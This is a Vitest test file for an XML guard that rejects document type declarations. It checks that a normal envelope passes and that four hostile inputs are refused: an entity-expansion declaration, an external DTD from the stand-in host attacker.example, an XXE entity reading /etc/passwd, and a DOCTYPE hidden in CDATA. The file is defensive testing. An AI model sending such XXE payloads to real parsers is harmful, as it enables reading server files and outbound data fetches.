import { describe, expect, it } from 'vitest';
import { refuseDocumentTypeDeclarations } from './xml-guard';

describe('refuseDocumentTypeDeclarations', () => {
  it('passes an ordinary envelope through unchanged, comments and CDATA included', () => {
    const xml = '<?xml version="1.0"?><!-- hi --><s:Envelope xmlns:s="x"><s:Body><t><![CDATA[a < b]]></t></s:Body></s:Envelope>';
    expect(refuseDocumentTypeDeclarations(xml)).toBe(xml);
  });

  it.each([
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">]><a>&lol;</a>',
    '<!doctype a SYSTEM "http://attacker.example/evil.dtd"><a/>',
    '<a><!ENTITY xxe SYSTEM "file:///etc/passwd"></a>',
    '<a><![CDATA[<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a/>]]></a>',
  ])('refuses %s as invalid_input', (xml) => {
    expect(() => refuseDocumentTypeDeclarations(xml)).toThrow(expect.objectContaining({ code: 'invalid_input', message: expect.stringMatching(/refused unparsed/) }));
  });
});
